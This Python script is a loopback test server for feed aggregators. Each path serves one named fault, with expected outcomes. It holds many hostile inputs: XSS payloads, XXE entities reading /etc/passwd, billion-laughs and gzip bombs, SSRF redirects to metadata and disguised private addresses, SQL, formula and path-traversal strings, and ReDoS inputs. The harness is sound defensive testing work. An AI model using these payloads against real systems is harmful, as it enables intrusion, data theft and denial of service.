#!/usr/bin/env python3
"""A loopback web server whose every path misbehaves in one named way.

    python3 hostile_server.py [--port 8700]     prints one JSON line, then serves

GET /         every case in JSON: name, url, hazard, verdict, items, wait
GET /_log     every request seen: name, hit, seconds, method, path, headers
GET /_canary  requests that reached an address no client may reach; must stay []
GET /_reset   forget the log and every counter

The verdict says what an aggregator must make of that one source:
  ok         `items` items stored; every public output valid and harmless
  safe       stored or refused, as it likes; bounded and harmless either way
  fail       the failure recorded; store and outputs keep what they had
  wait       as fail, and not asked again for `wait` seconds
  gone       as fail, and not asked again until a person says so
  moved      `items` items stored; later requests go to the new address
  unchanged  `items` items stored; the next request is conditional and gets 304
Nothing is random: an answer depends on the path, the headers and the times asked since /_reset.
"""

import argparse
import email.utils
import functools
import gzip
import json
import socket
import struct
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from xml.sax.saxutils import escape

CASES = {}
MIB = 1 << 20
PATIENCE = 120  # seconds after which an endless answer gives up by itself
STAMP = "Thu, 01 Jan 2026 00:00:00 GMT"
RSS = "application/rss+xml"
pack = functools.partial(gzip.compress, mtime=0)


def case(name, verdict, hazard, answer=None, items=None, wait=0, scheme="http", port="main"):
    CASES[name] = {
        "verdict": verdict,
        "hazard": hazard,
        "items": items,
        "wait": wait,
        "scheme": scheme,
        "port": port,
        "answer": answer,
    }


# ---- the server ---------------------------------------------------------------------------
class Handler(BaseHTTPRequestHandler):
    protocol_version, server_version, sys_version = "HTTP/1.1", "hostile", ""

    def do_GET(self):
        server, self.close_connection = self.server, True
        self.name, _, self.rest = self.path.split("?")[0].strip("/").partition("/")
        seen = {"method": self.command, "path": self.path, "headers": list(self.headers.items())}
        if server.inside:
            server.log.append(seen)
            return self.reply(feed("inside", item(0, "inside", title="INTERNAL SECRET")))
        if not self.name or self.name.startswith("_"):
            return self.reply(json.dumps(server.page(self.name)).encode(), "application/json")
        with server.lock:
            server.hits[self.name] = self.hit = server.hits.get(self.name, 0) + 1
            seconds = round(time.monotonic() - server.start, 3)
            server.log.append({"name": self.name, "hit": self.hit, "seconds": seconds} | seen)
        answer = CASES.get(self.name, {}).get("answer")
        try:
            answer(self) if answer else self.reply(b"no such case", "text/plain", 404)
        except OSError:
            pass  # the client hung up, as it mostly should

    do_HEAD = do_GET

    def log_message(self, *args):
        pass

    def reply(self, body=b"", kind=RSS, status=200, headers=()):
        self.send_response(status)
        if kind:
            self.send_header("Content-Type", kind)
        if status not in (204, 304) and "Content-Length" not in dict(headers):
            self.send_header("Content-Length", str(len(body)))
        for key, value in headers:
            self.send_header(key, value)
        self.send_header("Connection", "close")
        self.end_headers()
        self.send(body)

    def send(self, *chunks, pause=0):
        for chunk in chunks:
            self.wfile.write(chunk)
            time.sleep(pause)

    def forever(self, chunk, pause=0):
        end = time.monotonic() + PATIENCE
        while time.monotonic() < end:
            self.send(chunk, pause=pause)

    def drip(self, data, frame=b"%c"):
        self.send(*(frame % byte for byte in data), pause=0.25)

    def reset(self):
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        for handle in (self.rfile, self.wfile, self.connection):
            handle.close()

    def here(self, path):
        return f"http://127.0.0.1:{self.server.server_port}/{path}"

    def inside(self, host="127.0.0.2"):
        return f"http://{host}:{self.server.canary.server_port}/secret"


class Server(ThreadingHTTPServer):
    daemon_threads, request_queue_size, inside = True, 256, False

    def __init__(self, port=0):
        super().__init__(("127.0.0.1", port), Handler)
        self.lock, self.start, self.log, self.hits = threading.Lock(), time.monotonic(), [], {}
        self.canary = Canary(("::", 0), Handler)  # v6 and v4: whatever listens inside the network
        self.silent = socket.create_server(("127.0.0.1", 0), backlog=256)  # accepts, never reads
        self.refusing = socket.socket()  # bound, never listens
        self.refusing.bind(("127.0.0.1", 0))
        self.ports = {
            "main": self.server_port,
            "silent": self.silent.getsockname()[1],
            "refusing": self.refusing.getsockname()[1],
        }
        for target in (self.canary.serve_forever, self.hold):
            threading.Thread(target=target, daemon=True).start()

    def hold(self):
        held = []
        while True:
            held.append(self.silent.accept())

    def handle_error(self, request, client_address):
        pass

    def page(self, name):
        if name == "_reset":
            self.log, self.hits, self.canary.log = [], {}, []
        if name:
            return self.canary.log if name == "_canary" else self.log
        return {
            "ports": self.ports,
            "canary": self.canary.server_port,
            "cases": [
                {"name": n, "url": f"{c['scheme']}://127.0.0.1:{self.ports[c['port']]}/{n}"}
                | {k: c[k] for k in ("verdict", "hazard", "items", "wait")}
                for n, c in CASES.items()
            ],
        }


class Canary(ThreadingHTTPServer):
    address_family, daemon_threads, inside, log = socket.AF_INET6, True, True, []

    def server_bind(self):
        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")  # never outside
        super().server_bind()


# ---- what the answers are made of ---------------------------------------------------------
def item(n, name, raw="", enclosure=None, **parts):
    """One RSS item. A part given as None is left out; raw is put in as it is."""
    fields = {
        "title": f"Item {n}",
        "link": f"https://example.org/{name}/{n}",
        "guid": f"urn:hostile:{name}:{n}",
        "description": f"About {n}",
        "pubDate": email.utils.formatdate(1767225600 + 3600 * n, usegmt=True),
    } | parts
    body = "".join(f"<{k}>{escape(v)}</{k}>" for k, v in fields.items() if v is not None)
    sound = f'url="https://example.org/{n}.mp3" length="1000" type="audio/mpeg"'
    return f"<item>{body}<enclosure {enclosure or sound}/>{raw}</item>"


def feed(name, *items, head="", title="Hostile"):
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{head}<rss version="2.0" '
        'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel>'
        f"<title>{title}</title><link>https://example.org/{name}</link>"
        f"<description>d</description>{''.join(items)}</channel></rss>"
    ).encode()


def good(name="good", count=3, first=0, **parts):
    return feed(name, *(item(n, name, **parts) for n in range(first, first + count)))


def page(body=None, kind=RSS, status=200, **headers):
    """An answer whose body and headers are values or functions of the handler."""

    def answer(h):
        value = body(h) if callable(body) else good(h.name) if body is None else body
        pairs = [(k.replace("_", "-"), v(h) if callable(v) else v) for k, v in headers.items()]
        h.reply(value, kind, status, pairs)

    return answer


def one(raw="", **parts):
    return page(lambda h: feed(h.name, item(0, h.name, raw, **parts)))


def swap(new, old=b"Item", **kw):
    return page(lambda h: good(h.name).replace(old, new), **kw)


def entity(declared, use="x&x;"):
    return page(
        lambda h: feed(
            h.name,
            item(0, h.name, f"<title>{use}</title>", title=None),
            head=(f"<!DOCTYPE rss [{declared(h) if callable(declared) else declared}]>"),
        )
    )


@functools.lru_cache
def bomb(layers=1):
    """1 GiB of feed in 1 MiB of gzip; packed a second time, in about 4 KiB."""
    head, tail = good("bomb").split(b"</title>", 1)
    tail, block, packer = b"</title>" + tail, b"A" * MIB, zlib.compressobj(9, zlib.DEFLATED, -15)
    start, unit = (packer.compress(x) + packer.flush(zlib.Z_FULL_FLUSH) for x in (head, block))
    crc = zlib.crc32(head)
    for _ in range(1024):
        crc = zlib.crc32(block, crc)
    end = struct.pack("<II", zlib.crc32(tail, crc), len(head) + 1024 * MIB + len(tail))
    packed = b"\x1f\x8b\x08\0\0\0\0\0\2\xff" + start + unit * 1024 + packer.compress(tail)
    packed += packer.flush() + end
    return packed if layers == 1 else pack(packed)


def raw_deflate(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


PARKED = (
    b"<!doctype html><html><head><title>hostile.example is for sale</title></head><body>"
    b"<h1>Buy this domain</h1><a href='https://parking.example/'>Offers</a></body></html>"
)
QUOTA = json.dumps(
    {
        "error": {
            "code": 403,
            "message": "You have exceeded your quota.",
            "errors": [{"domain": "youtube.quota", "reason": "quotaExceeded"}],
        }
    }
).encode()
KEYED = b"bad request: https://api.example/v3/search?key=AIzaSyHOSTILE0000000000000000000000000000"
EVIL = (
    '<p onclick="steal()">hi</p><script>steal()</script><svg/onload=steal()>'
    '<a href="javascript:steal()">a</a><a href="java&#10;script:steal()">b</a>'
    '<img src=x onerror=steal()><iframe srcdoc="<script>steal()</script>"></iframe>'
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=steal()&gt;"><form action="https://evil.example"><input name=password></form>'
)
LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
LONG = HEAD + b"Content-Length: 9000\r\n\r\n"
GZIP = {"Content_Encoding": "gzip"}

# ---- answers and statuses -----------------------------------------------------------------
case("good", "ok", "none", page(lambda h: good(h.rest or h.name)), 3)
case("many", "ok", "10,000 items", page(lambda h: good(h.name, 10000)), 10000)
case(
    "agent",
    "ok",
    "403 unless the User-Agent names a page: +http",
    lambda h: h.reply(good(h.name), status=200 if "+http" in h.headers.get("User-Agent", "") else 403),
    3,
)
case("type-plain", "ok", "a feed as text/plain", page(kind="text/plain"), 3)
case("type-none", "ok", "a feed with no type", page(kind=None), 3)
case("empty-200", "fail", "200 with no body", page(b""))
case("no-content", "fail", "204", page(b"", status=204))
case("partial-206", "fail", "a 206 nobody asked for", page(lambda h: good(h.name)[:900], status=206))
case("html", "fail", "a web page, not a feed", page(PARKED, "text/html"))
case("parked", "fail", "a squatter's page as RSS", page(PARKED))
case("json-error", "fail", "200 with an error", page(b'{"error": "later"}', "application/json"))
case("binary", "fail", "an MP3, not a feed", page(b"ID3\3\0" + bytes(range(256)) * 400))
case("body-path", "fail", "a body that is a local path", page(b"/etc/passwd"))
case("body-url", "fail", "a body that is a private address", page(lambda h: h.inside().encode()))
case("secret-echo", "fail", "an error that repeats an API key", page(KEYED, status=400))
case("quota", "wait", "YouTube quotaExceeded", page(QUOTA, "application/json", 403), wait=3600)
case("status-410", "gone", "410", page(b"gone", "text/plain", 410))
for code in (400, 401, 403, 404, 418, 451, 500, 502, 520):
    case(f"status-{code}", "fail", f"{code} with a good feed as body", page(status=code))
for tag, code, after, wait in (
    ("429-seconds", 429, "7200", 7200),
    ("429-none", 429, None, 3600),
    ("503-wait", 503, "600", 600),
    ("429-absurd", 429, "9" * 30, 86400),
    ("429-negative", 429, "-5", 3600),
    ("429-garbage", 429, "soon", 3600),
    ("429-date", 429, lambda h: email.utils.formatdate(time.time() + 7200, usegmt=True), 7200),
):
    case(
        tag,
        "wait",
        f"{code} with that Retry-After",
        page(b"slow down", "text/plain", code, **({"Retry_After": after} if after else {})),
        wait=wait,
    )

# ---- redirects ----------------------------------------------------------------------------
for tag, where in {
    "metadata": lambda h: h.inside("127.169.254.169"),
    "file": "file:///etc/passwd",
    "ftp": "ftp://127.0.0.2/x",
    "gopher": "gopher://127.0.0.2:6379/_INFO",
    "empty": "",
    "data": "data:text/xml,<rss/>",
    "script": "javascript:steal()",
    "half-v6": "http://[::1/",
    "bad-port": "http://127.0.0.1:99999/",
    "private": Handler.inside,
    "loop": lambda h: h.here(h.name),
    "chain": lambda h: h.here(f"{h.name}?{h.hit}"),
}.items():
    case(f"redirect-{tag}", "fail", f"302 to {tag}", page(b"", status=302, Location=where))
for tag, host in {
    "v6": "[::1]",
    "mapped": "[::ffff:127.0.0.2]",
    "decimal": "2130706434",
    "zero": "0",
    "octal": "0177.0.0.2",
    "short": "127.2",
    "name": "localhost",
    "wide": "127。0。0。2",
    "user": "example.org@127.0.0.2",
}.items():
    case(
        f"redirect-{tag}",
        "fail",
        f"302 to a private address as {tag}",
        page(b"", status=302, Location=lambda h, host=host: h.inside(host).encode().decode("latin-1")),
    )
for code, verdict in ((301, "moved"), (308, "moved"), (302, "ok"), (307, "ok")):
    case(
        f"redirect-{code}",
        verdict,
        f"{code} to a feed",
        page(b"", status=code, Location=lambda h: h.here(f"good/{h.name}")),
        3,
    )
case(
    "redirect-301-parked",
    "fail",
    "301 to a squatter: the address must not be learnt",
    page(b"", status=301, Location=lambda h: h.here("parked")),
)
case("redirect-nowhere", "fail", "302 with no Location", page(b"", status=302))

# ---- encodings, lengths, headers ----------------------------------------------------------
case("gzip", "ok", "none", page(lambda h: pack(good(h.name)), **GZIP), 3)
case(
    "deflate-raw",
    "ok",
    "deflate with no zlib header",
    page(lambda h: raw_deflate(good(h.name)), Content_Encoding="deflate"),
    3,
)
case("gzip-bomb", "fail", "1 GiB in 1 MiB", page(lambda h: bomb(), **GZIP))
case("gzip-bomb-2", "fail", "1 GiB in 4 KiB", page(lambda h: bomb(2), Content_Encoding="gzip, gzip"))
case("gzip-undeclared", "fail", "a gzip bomb as body", page(lambda h: bomb(), "application/gzip"))
case("gzip-cut", "fail", "half a gzip stream", page(lambda h: pack(good(h.name, 200))[:900], **GZIP))
case("gzip-crc", "safe", "a wrong checksum", page(lambda h: pack(good(h.name))[:-8] + bytes(8), **GZIP))
case("gzip-lie", "fail", "plain text declared as gzip", page(**GZIP))
case("gzip-100", "fail", "100 encodings declared", page(Content_Encoding=", ".join(["gzip"] * 100)))
case("header-huge", "fail", "a header of 1 MiB", page(X_Big="x" * MIB))
case("header-many", "fail", "10,000 headers", page(**{f"X_{n}": "x" for n in range(10000)}))
case("cookie", "ok", "a cookie: none may come back", page(Set_Cookie="id=1; Max-Age=99999999"), 3)
case("length-long", "fail", "more declared than sent", page(Content_Length="9000"))
case("length-short", "safe", "half declared", page(Content_Length="700"))
case("length-huge", "fail", "a petabyte declared", page(Content_Length=str(10**15)))
case("length-negative", "safe", "a negative length", page(Content_Length="-1"))

# ---- the connection -----------------------------------------------------------------------
case("refused", "fail", "connection refused", port="refusing")
case("silent", "fail", "accepts, never answers", port="silent")
case("tls-silent", "fail", "accepts, TLS never starts", scheme="https", port="silent")
case("tls-plain", "fail", "plain HTTP where TLS was asked", scheme="https")
case("closed", "fail", "closed with no answer", lambda h: None)
case("reset", "fail", "reset with no answer", Handler.reset)
case("reset-mid", "fail", "reset in mid body", lambda h: (h.send(LONG, good(), pause=0.2), h.reset()))
case("stall-mid", "fail", "silence in mid body", lambda h: h.send(LONG, good(), pause=PATIENCE))
case("slow-body", "fail", "4 bytes a second", lambda h: (h.send(HEAD, b"\r\n"), h.drip(good())))
case(
    "slow-chunks", "fail", "4 chunks of one byte a second", lambda h: (h.send(CHUNKED), h.drip(good(), b"1\r\n%c\r\n"))
)
case("slow-headers", "fail", "headers at 4 bytes a second", lambda h: h.drip(HEAD + b"X: y\r\n" * 99))
case(
    "endless-body",
    "fail",
    "items without end",
    lambda h: (h.send(HEAD, b"\r\n", good()[:-16]), h.forever(item(1, h.name).encode() * 500)),
)
case(
    "endless-chunks",
    "fail",
    "chunks without end",
    lambda h: (h.send(CHUNKED), h.forever(b"10000\r\n" + b" " * 65536 + b"\r\n")),
)
case("endless-headers", "fail", "headers without end", lambda h: (h.send(HEAD), h.forever(b"X: y\r\n", 0.01)))
case("endless-line", "fail", "a header line without end", lambda h: (h.send(HEAD + b"X: "), h.forever(b"y" * 999)))
case("endless-100", "fail", "100 Continue without end", lambda h: h.forever(b"HTTP/1.1 100 Continue\r\n\r\n"))
case("not-http", "fail", "an answer that is no HTTP", lambda h: h.send(b"SSH-2.0-hostile\r\n" * 9))
case("status-999", "fail", "status 999", lambda h: h.send(b"HTTP/1.1 999 No\r\nContent-Length: 0\r\n\r\n"))
case("chunk-size", "fail", "a chunk size that is no number", lambda h: h.send(CHUNKED, b"zz\r\n", good()))
case("chunk-vast", "fail", "a chunk of 2**64 bytes", lambda h: h.send(CHUNKED, b"f" * 16 + b"\r\n", good()))
case(
    "chunk-cut", "fail", "chunks with no end mark", lambda h: h.send(CHUNKED, b"%x\r\n" % len(good()), good(), b"\r\n")
)
case("length-twice", "safe", "two lengths", page(Content_Length="10", CONTENT_LENGTH="700"))
case(
    "forged-reply",
    "ok",
    "a forged answer behind the real one",
    lambda h: h.send(HEAD, b"Content-Length: %d\r\n\r\n" % len(good(h.name)), good(h.name), LONG, b"forged", pause=0.2),
    3,
)

# ---- characters and markup ----------------------------------------------------------------
CONTROLS = bytes(c for c in range(1, 32) if c not in (9, 10, 13))
for tag, hazard, new, kind in (
    ("latin1-as-utf8", "Latin-1 declared as UTF-8", b"Caf\xe9", RSS),
    ("utf8-as-latin1", "UTF-8 declared as Latin-1 in the header", "Café".encode(), RSS + "; charset=latin-1"),
    ("bytes-invalid", "bytes that are no UTF-8", b"\xff\xfe\xc0\x80", RSS),
    ("nulls", "null bytes", b"It\0em", RSS),
    ("controls", "every C0 control", CONTROLS, RSS),
    ("entities-html", "HTML entities", b"&nbsp;&eacute;", RSS),
    ("char-refs", "references to forbidden characters", b"&#0;&#27;&#xD800;&#xFFFE;&#x110000;", RSS),
    ("c1-escapes", "terminal escapes by C1 characters", "\x9b2J\x9d0;owned\x9c".encode(), RSS),
    ("bidi", "direction overrides and zero width", "\u202etxt.exe\u2066\u200b\U000e0041".encode(), RSS),
):
    case(tag, "ok", hazard, swap(new, kind=kind), 3)
case("charset-unknown", "ok", "a charset nobody has", swap(b"x-klingon", b"utf-8", kind=RSS + "; charset=x-klingon"), 3)
case("utf16", "ok", "UTF-16", page(lambda h: good(h.name).decode().replace("utf-8", "utf-16").encode("utf-16")), 3)
case("utf7", "ok", "script in UTF-7", one(title="+ADw-script+AD4-steal()+ADw-/script+AD4-"), 1)
case("laughs", "safe", "a billion laughs", entity(LAUGHS, "&l9;"))
case("blowup", "safe", "quadratic blow-up", entity(f'<!ENTITY x "{"y" * 50000}">', "&x;" * 50000))
case("xxe-file", "safe", "an entity that is a local file", entity('<!ENTITY x SYSTEM "file:///etc/passwd">'))
case("xxe-web", "safe", "an entity that is a private address", entity(lambda h: f'<!ENTITY x SYSTEM "{h.inside()}">'))
case(
    "dtd-web",
    "safe",
    "a DTD at a private address",
    page(
        lambda h: good(h.name).replace(
            b"<rss", f'<!DOCTYPE rss SYSTEM "{h.inside()}"><?xml-stylesheet href="{h.inside()}"?><rss'.encode(), 1
        )
    ),
)
case(
    "private-links",
    "ok",
    "links and images at a private address",
    page(
        lambda h: good(
            h.name, 3, link=h.inside(), description=f'<img src="{h.inside()}">', enclosure=f'url="{h.inside()}"'
        )
    ),
    3,
)
case("deep-xml", "safe", "100,000 elements deep", one("<a>" * 100000 + "</a>" * 100000))
case("deep-html", "safe", "50,000 divs deep in a text", one(description="<div>" * 50000))
case("many-attributes", "safe", "20,000 attributes", one("<a " + " ".join(f'a{n}="1"' for n in range(20000)) + "/>"))
case("many-tags", "safe", "20,000 categories", one("".join(f"<category>t{n}</category>" for n in range(20000))))
case("huge-title", "safe", "a title of 10 MiB", one(title="T" * 10 * MIB))
case("huge-guid", "safe", "a GUID of 1 MiB", one(guid="g" * MIB))
case("cut", "safe", "the feed ends inside an item", page(lambda h: good(h.name, 50)[:-1500]))
case("two-roots", "safe", "two feeds, one after the other", page(lambda h: good(h.name) + good("other")))
case("evil-html", "ok", "script in the text", one(description=EVIL), 1)
case("evil-title", "ok", "script in the title", one(title=EVIL), 1)
case("evil-link", "ok", "a link that is script", one(link="javascript:steal()"), 1)
case(
    "evil-enclosure",
    "ok",
    "a file as enclosure",
    one(enclosure='url="file:///etc/passwd" length="-1" type="text/html&quot; x=&quot;"'),
    1,
)
case(
    "enclosure-length",
    "ok",
    "a length of 30 digits",
    one(enclosure=f'url="https://example.org/a.mp3" length="{"9" * 30}" type="audio/mpeg"'),
    1,
)
case("duration", "ok", "an absurd duration", one("<itunes:duration>99999999999:99:99</itunes:duration>"), 1)
case("inject-xml", "ok", "text that leaves its element", one(title="]]></title></item><item><guid>forged</guid>"), 1)
case("inject-tag", "ok", "markup in a tag", one("<category>a&lt;/category&gt;&lt;item&gt;,\"'&#10;b</category>"), 1)
case("inject-formula", "ok", "a title that is a formula", one(title='=HYPERLINK("http://evil","x")|cmd'), 1)
case("inject-sql", "ok", "a title that is SQL", one(title="x'); DROP TABLE items;-- \" OR 1=1 NEAR("), 1)
case(
    "inject-path",
    "ok",
    "names that climb the tree",
    one(
        "<category>../../../tmp/x\\..\\y</category><category>CON</category>",
        title="../../../../etc/cron.d/x",
        guid="../../etc/passwd",
    ),
    1,
)
case("redos-author", "safe", "an author that stalls a pattern", one(author="a@" + "a." * 40000 + "!"))
case("redos-date", "safe", "a date that stalls a pattern", one(pubDate="1" * 100000 + " " * 50000 + "x"))

# ---- identity, dates, history -------------------------------------------------------------
for tag, text in {
    "future": "Tue, 31 Dec 2999 23:59:59 GMT",
    "ancient": "0001-01-01T00:00:00Z",
    "garbage": "yesterday-ish 一",
    "overflow": "9" * 40 + "-01-01T00:00:00Z",
    "none": None,
}.items():
    case(f"date-{tag}", "ok", f"a date: {tag}", page(lambda h, text=text: good(h.name, pubDate=text)), 3)
case("guid-none", "ok", "no GUIDs", page(lambda h: good(h.name, guid=None)), 3)
case("guid-same", "ok", "three items, one GUID", page(lambda h: good(h.name, guid="same")), 3)
case("guid-hijack", "ok", "the GUIDs and links of the good case", page(lambda h: good("good", title="HIJACKED")), 3)
case(
    "bare",
    "ok",
    "items of a GUID only",
    page(lambda h: good(h.name, title=None, link=None, description=None, pubDate=None)),
    3,
)
case("bare-none", "safe", "items of nothing", page(lambda h: feed(h.name, "<item/>" * 3)))


def conditional(etag=None, modified=None, body=None, **headers):
    """What a right server does: If-None-Match by exact value, else If-Modified-Since."""

    def answer(h):
        tag, given = etag(h) if callable(etag) else etag, h.headers.get("If-None-Match")
        same = given == tag if tag and given else modified and h.headers.get("If-Modified-Since") == modified
        known = {k: v for k, v in (("ETag", tag), ("Last_Modified", modified)) if v} | headers
        page(b"" if same else body, None if same else RSS, 304 if same else 200, **known)(h)

    return answer


case("etag", "unchanged", "none", conditional('"v1"'), 3)
case("etag-weak", "unchanged", "a weak ETag", conditional('W/"v1"'), 3)
case("etag-bare", "unchanged", "an ETag with no quotes", conditional("v1"), 3)
case("etag-odd", "unchanged", "an ETag with commas and brackets", conditional('"a, b -gzip; <x>"'), 3)
case("modified", "unchanged", "only Last-Modified", conditional(modified=STAMP), 3)
case("modified-odd", "unchanged", "a Last-Modified that is no date", conditional(modified="yesterday, 5 o'clock"), 3)
case("max-age", "unchanged", "fresh for an hour", conditional('"v1"', Cache_Control="max-age=3600"), 3, wait=3600)
case(
    "etag-touch",
    "unchanged",
    "every second request a new ETag for the same body: learn it",
    conditional(lambda h: f'"{(h.hit + 1) // 2}"'),
    3,
)
case("etag-never", "ok", "an ETag that never matches", conditional(lambda h: f'"{h.hit}"'), 3)
case(
    "etag-first",
    "ok",
    "new ETag and items under the same Last-Modified: 3, then 4",
    conditional(lambda h: f'"{h.hit}"', STAMP, lambda h: good(h.name, 2 + h.hit)),
    3,
)
case("304-first", "fail", "304 to a request with no condition", page(b"", None, 304))
case(
    "304-body",
    "unchanged",
    "304 with a changed body",
    lambda h: h.reply(
        good(h.name, 5 if h.hit > 1 else 3), status=304 if h.hit > 1 else 200, headers=[("ETag", '"v1"')]
    ),
    3,
)
case(
    "304-forever",
    "ok",
    "304 to any condition though items were added: ask plainly now and then",
    lambda h: (
        page(b"", None, 304) if h.headers.get("If-None-Match") else page(lambda h: good(h.name, 2 + h.hit), ETag='"v"')
    )(h),
    3,
)
for tag, hazard, items, *bodies in (
    ("emptied", "30 items, then none: keep 30", 30, lambda h: good(h.name, 30), lambda h: feed(h.name)),
    ("window", "the oldest leave: keep 30", 30, lambda h: good(h.name, 20), lambda h: good(h.name, 20, 10)),
    (
        "migrated",
        "every GUID, link and file changes: 30, not 60",
        30,
        lambda h: good(h.name, 30),
        lambda h: feed(
            h.name, *(item(n, "new", enclosure=f'url="https://cdn.new/{n}.mp3" length="1000"') for n in range(30))
        ),
    ),
    (
        "guid-changing",
        "new GUIDs on every request: 3",
        3,
        lambda h: feed(h.name, *(item(n, h.name, guid=f"urn:{h.hit}:{n}") for n in range(3))),
    ),
    ("edits", "new titles on every request: 3", 3, lambda h: good(h.name).replace(b"Item", b"Edit %d of" % h.hit)),
    (
        "redated",
        "new dates on every request: 3",
        3,
        lambda h: good(h.name, pubDate=email.utils.formatdate(1767225600 + 3600 * h.hit, usegmt=True)),
    ),
    ("flood", "3 items, then 5,000 more", 5003, lambda h: good(h.name), lambda h: good(h.name, 5003)),
    ("flaky", "good, then broken: keep 3", 3, lambda h: good(h.name), lambda h: b"<rss><chan"),
    (
        "taken-over",
        "a feed, then a stranger's at its address: flag it",
        3,
        lambda h: good(h.name),
        lambda h: feed(h.name, item(0, "casino", title="WIN NOW"), title="Casino"),
    ),
):
    case(tag, "ok", hazard, page(lambda h, b=bodies: b[min(h.hit, len(b)) - 1](h)), items)


def main():
    options = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    options.add_argument("--port", type=int, default=0)
    server = Server(**vars(options.parse_args()))
    print(
        json.dumps({"index": server.ports["main"], "canary": server.canary.server_port, "cases": len(CASES)}),
        flush=True,
    )
    server.serve_forever()


if __name__ == "__main__":
    main()
